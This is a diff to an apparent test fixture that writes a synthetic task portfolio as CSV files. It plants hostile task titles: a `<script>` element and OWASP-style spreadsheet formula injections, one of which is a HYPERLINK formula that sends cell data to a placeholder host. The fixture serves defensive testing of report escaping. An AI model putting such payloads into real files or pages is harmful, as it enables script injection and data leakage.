@@ -15,17 +15,24 @@ from forecast import sample, schema
 # A task title that would run if a report pasted data into the page as HTML.
 HOSTILE_TITLE = '<script>document.documentElement.setAttribute("data-pwned", "yes")</script> Fix & "quote"'
 HOSTILE_TASK = "HOSTILE-1"
+# Titles a spreadsheet would run as formulas (OWASP's CSV injection list), given to open tasks due by 31 Dec.
+FORMULA_TITLES = ('=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(1,2)")
 
 
 def write_portfolio(folder: Path) -> Path:
     """A 200-task synthetic portfolio (weekly, Sep - 4 Dec 2025) as CSV exports; the longest overdue task has a
-    title holding a ``<script>`` element."""
+    title holding a ``<script>`` element, and four tasks due by 31 Dec have titles a spreadsheet would run as
+    formulas (:data:`FORMULA_TITLES`)."""
     frame = sample.generate(tasks=200, seed=3, start="2025-09-04", until="2025-12-04")
     last = frame["snapshot_date"].max()
     overdue = frame.loc[(frame["snapshot_date"] == last) & (frame["status"] == schema.OVERDUE)]
     victim = overdue.sort_values("deadline")["task_id"].iloc[0]  # the longest overdue: listed in every report
     frame["task_id"] = frame["task_id"].astype(str).where(frame["task_id"] != victim, HOSTILE_TASK)
     frame["title"] = frame["title"].astype(str).where(frame["task_id"] != HOSTILE_TASK, HOSTILE_TITLE)
+    due = frame.loc[(frame["snapshot_date"] == last) & (frame["status"] == schema.IN_PROGRESS)
+                    & (frame["deadline"] <= "2025-12-31")].sort_values("task_id")["task_id"].head(len(FORMULA_TITLES))
+    for task, title in zip(due, FORMULA_TITLES, strict=True):
+        frame.loc[frame["task_id"] == task, "title"] = title
     folder.mkdir(parents=True, exist_ok=True)
     for when, snap in frame.groupby("snapshot_date"):
         snap.drop(columns=["snapshot_date"]).to_csv(folder / f"snapshot_{when:%Y-%m-%d}.csv", index=False,
